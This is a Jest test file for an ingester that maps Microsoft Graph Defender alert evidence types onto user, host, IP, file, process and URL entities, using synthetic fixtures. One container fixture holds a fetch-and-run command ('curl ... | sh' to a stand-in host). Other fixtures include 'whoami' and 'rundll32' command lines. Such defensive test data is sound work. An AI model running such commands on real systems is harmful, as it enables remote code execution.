/** Each Graph evidence type maps onto the right entity kinds; context-only and unknown types add none and stay in raw. */
import { KNOWN_EVIDENCE_TYPES } from '../../../ingest/defender/evidence';
import { entitiesOf, evidence, graphAlert, normalisedOne } from './graphAlerts';

const account = {
  accountName: 'j.becker',
  domainName: 'NORDWIND',
  userPrincipalName: 'j.becker@nordwind-handel.example',
  userSid: 'S-1-5-21-1-2-3-1187',
  azureAdUserId: '9a4b2c71-3d5e-4f60-8a1b-2c3d4e5f6a7b',
  displayName: 'Jana Becker',
};
const accountUser = {
  name: 'j.becker',
  upn: 'j.becker@nordwind-handel.example',
  domain: 'NORDWIND',
  sid: 'S-1-5-21-1-2-3-1187',
  azureAdObjectId: '9a4b2c71-3d5e-4f60-8a1b-2c3d4e5f6a7b',
};
const sha1 = 'a'.repeat(40);
const sha256 = 'b'.repeat(64);
const md5 = 'c'.repeat(32);
const ip = (ipAddress: string, extra: Record<string, unknown> = {}) => ({ '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress, ...extra });
type EntityLists = Record<'users' | 'hosts' | 'ips' | 'files' | 'processes' | 'urls', unknown[]>;
const none: EntityLists = { users: [], hosts: [], ips: [], files: [], processes: [], urls: [] };

/** Graph's v1.0 alertEvidence subtypes (the metadata's list, which is longer than the reference page's). */
const DOCUMENTED_TYPES = [
  'amazonResourceEvidence', 'analyzedMessageEvidence', 'azureResourceEvidence', 'blobContainerEvidence', 'blobEvidence',
  'cloudApplicationEvidence', 'cloudLogonRequestEvidence', 'cloudLogonSessionEvidence', 'containerEvidence', 'containerImageEvidence',
  'containerRegistryEvidence', 'deviceEvidence', 'dnsEvidence', 'fileEvidence', 'fileHashEvidence', 'gitHubOrganizationEvidence',
  'gitHubRepoEvidence', 'gitHubUserEvidence', 'googleCloudResourceEvidence', 'hostLogonSessionEvidence', 'ioTDeviceEvidence',
  'ipEvidence', 'kubernetesClusterEvidence', 'kubernetesControllerEvidence', 'kubernetesNamespaceEvidence', 'kubernetesPodEvidence',
  'kubernetesSecretEvidence', 'kubernetesServiceAccountEvidence', 'kubernetesServiceEvidence', 'mailboxConfigurationEvidence',
  'mailboxEvidence', 'mailClusterEvidence', 'malwareEvidence', 'networkConnectionEvidence', 'nicEvidence', 'oauthApplicationEvidence',
  'processEvidence', 'registryKeyEvidence', 'registryValueEvidence', 'sasTokenEvidence', 'securityGroupEvidence',
  'servicePrincipalEvidence', 'submissionMailEvidence', 'teamsMessageEvidence', 'urlEvidence', 'userEvidence',
] as const;

test('every documented evidence type has a schema', () => {
  expect([...KNOWN_EVIDENCE_TYPES].sort()).toEqual(DOCUMENTED_TYPES.map((type) => `#microsoft.graph.security.${type}`).sort());
});

const cases: [string, Record<string, unknown>, Partial<EntityLists>][] = [
  [
    'deviceEvidence',
    {
      mdeDeviceId: 'f'.repeat(40),
      deviceDnsName: 'ws-0231.corp.example',
      hostName: 'ws-0231',
      osPlatform: 'Windows11',
      ipInterfaces: ['10.0.0.5', 'not-an-ip', null],
      lastIpAddress: '10.0.0.6',
      loggedOnUsers: [{ accountName: 'j.becker', domainName: 'NORDWIND' }, null],
    },
    {
      hosts: [{ hostname: 'ws-0231.corp.example', deviceId: 'f'.repeat(40), os: 'Windows11', ips: ['10.0.0.5', '10.0.0.6'] }],
      users: [{ name: 'j.becker', domain: 'NORDWIND' }],
    },
  ],
  [
    'fileEvidence',
    { detectionStatus: 'detected', fileDetails: { fileName: 'evil.exe', filePath: 'C:\\Temp', sha1, sha256: null, md5 } },
    { files: [{ name: 'evil.exe', path: 'C:\\Temp\\evil.exe', sha1, md5 }] },
  ],
  ['fileHashEvidence', { algorithm: 'sha256', value: sha256 }, { files: [{ name: sha256, sha256 }] }],
  [
    'processEvidence',
    {
      processId: 4242,
      processCommandLine: 'cmd.exe /c whoami',
      imageFile: { fileName: 'cmd.exe', filePath: 'C:\\Windows\\System32', sha1 },
      parentProcessImageFile: { fileName: 'bash', filePath: '/usr/bin' },
      userAccount: account,
    },
    {
      processes: [{ pid: 4242, commandLine: 'cmd.exe /c whoami', imagePath: 'C:\\Windows\\System32\\cmd.exe', user: 'NORDWIND\\j.becker', parentImagePath: '/usr/bin/bash' }],
      users: [accountUser],
    },
  ],
  ['userEvidence', { userAccount: account }, { users: [accountUser] }],
  ['ipEvidence', { ipAddress: '198.51.100.7', countryLetterCode: 'DE', roles: ['attacker', 'source'] }, { ips: [{ address: '198.51.100.7', role: 'source', countryCode: 'DE' }] }],
  ['urlEvidence', { url: 'https://bad.example/x' }, { urls: [{ url: 'https://bad.example/x' }] }],
  [
    'mailboxEvidence',
    { primaryAddress: 'mia@corp.example', displayName: 'Mia', upn: 'mia@corp.example', userAccount: null },
    { users: [{ name: 'mia@corp.example', upn: 'mia@corp.example' }] },
  ],
  ['mailboxConfigurationEvidence', { upn: 'mia@corp.example', mailboxPrimaryAddress: 'mia@corp.example' }, { users: [{ name: 'mia@corp.example', upn: 'mia@corp.example' }] }],
  [
    'analyzedMessageEvidence',
    {
      senderIp: '192.0.2.1',
      recipientEmailAddress: 'mia@corp.example',
      urls: ['https://phish.example/a', null],
      p1Sender: { emailAddress: 'ceo@spoofed.example', displayName: 'CEO', domainName: 'spoofed.example' },
      p2Sender: null,
      subject: 'Invoice',
    },
    { ips: [{ address: '192.0.2.1', role: 'source' }], users: [{ name: 'mia@corp.example' }], urls: [{ url: 'https://phish.example/a' }] },
  ],
  ['submissionMailEvidence', { senderIp: '192.0.2.2', recipient: 'mia@corp.example', sender: 'x@spam.example' }, { ips: [{ address: '192.0.2.2', role: 'source' }], users: [{ name: 'mia@corp.example' }] }],
  [
    'teamsMessageEvidence',
    {
      senderIP: '192.0.2.3',
      recipients: ['mia@corp.example'],
      urls: [{ '@odata.type': '#microsoft.graph.security.urlEvidence', url: 'https://teams-phish.example/' }],
      files: [{ fileDetails: { fileName: 'a.zip', sha256 } }],
    },
    {
      ips: [{ address: '192.0.2.3', role: 'source' }],
      users: [{ name: 'mia@corp.example' }],
      urls: [{ url: 'https://teams-phish.example/' }],
      files: [{ name: 'a.zip', sha256 }],
    },
  ],
  [
    'cloudLogonSessionEvidence',
    { account: { userAccount: account }, deviceName: 'LAPTOP-7', operatingSystem: 'Windows 11', browser: 'Edge' },
    { users: [accountUser], hosts: [{ hostname: 'LAPTOP-7', os: 'Windows 11', ips: [] }] },
  ],
  [
    'hostLogonSessionEvidence',
    { account: { userAccount: account }, host: { deviceDnsName: 'srv-1.corp.example', mdeDeviceId: 'e'.repeat(40) } },
    { users: [accountUser], hosts: [{ hostname: 'srv-1.corp.example', deviceId: 'e'.repeat(40), ips: [] }] },
  ],
  [
    'ioTDeviceEvidence',
    { deviceId: 'iot-17', deviceName: 'PLC-Hall-3', operatingSystem: 'VxWorks', ipAddress: ip('10.9.0.17'), nics: [{ ipAddress: ip('10.9.1.17') }] },
    { hosts: [{ hostname: 'PLC-Hall-3', deviceId: 'iot-17', os: 'VxWorks', ips: ['10.9.0.17', '10.9.1.17'] }] },
  ],
  ['nicEvidence', { macAddress: '00:11:22:33:44:55', ipAddress: ip('10.1.1.1') }, { ips: [{ address: '10.1.1.1', role: 'unknown' }] }],
  [
    'networkConnectionEvidence',
    { sourceAddress: ip('10.0.0.5'), sourcePort: 49152, destinationAddress: ip('203.0.113.9'), destinationPort: 443, protocol: 'tcp' },
    { ips: [{ address: '10.0.0.5', role: 'source' }, { address: '203.0.113.9', role: 'destination' }] },
  ],
  [
    'dnsEvidence',
    { domainName: 'bad.example', dnsServerIp: ip('10.0.0.53'), hostIpAddress: ip('10.0.0.5'), ipAddresses: [ip('203.0.113.10')] },
    { ips: [{ address: '10.0.0.53', role: 'unknown' }, { address: '10.0.0.5', role: 'unknown' }, { address: '203.0.113.10', role: 'unknown' }] },
  ],
  ['kubernetesPodEvidence', { name: 'web-1', podIp: ip('10.244.0.7') }, { ips: [{ address: '10.244.0.7', role: 'unknown' }] }],
  [
    'kubernetesServiceEvidence',
    { name: 'web', clusterIP: ip('10.96.0.10'), externalIPs: [ip('198.51.100.80')] },
    { ips: [{ address: '10.96.0.10', role: 'unknown' }, { address: '198.51.100.80', role: 'unknown' }] },
  ],
  ['containerEvidence', { name: 'miner', command: ['/bin/sh', '-c'], args: ['curl -s http://x.example | sh'] }, { processes: [{ commandLine: '/bin/sh -c curl -s http://x.example | sh' }] }],
  [
    'blobEvidence',
    { name: 'payload.bin', url: 'https://acct.blob.core.windows.net/c/payload.bin', fileHashes: [{ algorithm: 'sha256', value: sha256 }, { algorithm: 'md5', value: md5 }] },
    { urls: [{ url: 'https://acct.blob.core.windows.net/c/payload.bin' }], files: [{ name: 'payload.bin', sha256, md5 }] },
  ],
  ['blobContainerEvidence', { name: 'c', url: 'https://acct.blob.core.windows.net/c' }, { urls: [{ url: 'https://acct.blob.core.windows.net/c' }] }],
  ['gitHubUserEvidence', { login: 'octo-intruder', name: 'Octo', email: null }, { users: [{ name: 'octo-intruder' }] }],
  [
    'malwareEvidence',
    { name: 'Trojan:Win32/X', files: [{ fileDetails: { fileName: 'x.dll', sha1 } }], processes: [{ processId: 1, processCommandLine: 'rundll32 x.dll' }] },
    { files: [{ name: 'x.dll', sha1 }], processes: [{ pid: 1, commandLine: 'rundll32 x.dll' }] },
  ],
];

describe.each(cases)('%s', (type, properties, expected) => {
  test('maps onto the expected entities', () => {
    expect(entitiesOf(evidence(type, properties))).toEqual({ ...none, ...expected });
  });
});

const CONTEXT_ONLY = DOCUMENTED_TYPES.filter((type) => !cases.some(([mapped]) => mapped === type));

test.each(CONTEXT_ONLY)('%s is known, carries no entity kind, and stays in raw', (type) => {
  const item = evidence(type, { displayName: 'context', resourceId: '/subscriptions/x', appId: 42 });
  const alert = normalisedOne(graphAlert({ evidence: [item] }));
  expect(alert.entities).toEqual(none);
  expect(alert.raw).toMatchObject({ evidence: [item] });
});

describe('unknown and future evidence types', () => {
  const future = { '@odata.type': '#microsoft.graph.security.quantumLinkEvidence', verdict: 'malicious', ipAddress: 42, nested: { deep: [1, 2] } };

  test('are no error, add no entity, and stay in raw untouched', () => {
    const alert = normalisedOne(graphAlert({ evidence: [future, evidence('urlEvidence', { url: 'https://x.example/' })] }));
    expect(alert.entities).toEqual({ ...none, urls: [{ url: 'https://x.example/' }] });
    expect(alert.raw).toMatchObject({ evidence: [future, expect.anything()] });
  });

  test('an item without @odata.type is kept in raw too', () => {
    const alert = normalisedOne(graphAlert({ evidence: [{ verdict: 'unknown', something: true }] }));
    expect(alert.entities).toEqual(none);
    expect(alert.raw).toMatchObject({ evidence: [{ verdict: 'unknown', something: true }] });
  });

  test('a type without the leading # (as nested objects sometimes come) is still recognised', () => {
    const item = { '@odata.type': 'microsoft.graph.security.urlEvidence', url: 'https://no-hash.example/' };
    expect(entitiesOf(item).urls).toEqual([{ url: 'https://no-hash.example/' }]);
  });
});

describe('the file entity when Graph leaves parts out', () => {
  test('a file without a name takes the last part of its path, or its hash', () => {
    expect(entitiesOf(evidence('fileEvidence', { fileDetails: { fileName: null, filePath: '/tmp/drop/run.sh' } })).files).toEqual([
      { name: 'run.sh', path: '/tmp/drop/run.sh' },
    ]);
    expect(entitiesOf(evidence('fileEvidence', { fileDetails: { fileName: null, filePath: null, sha256 } })).files).toEqual([{ name: sha256, sha256 }]);
  });

  test('malformed hashes are dropped and upper-case ones lower-cased, never a refusal', () => {
    const files = entitiesOf(evidence('fileEvidence', { fileDetails: { fileName: 'a.exe', sha1: 'xyz', sha256: sha256.toUpperCase(), md5: '' } })).files;
    expect(files).toEqual([{ name: 'a.exe', sha256 }]);
  });

  test('fileEvidence without fileDetails adds nothing', () => {
    expect(entitiesOf(evidence('fileEvidence', { fileDetails: null }))).toEqual(none);
  });
});
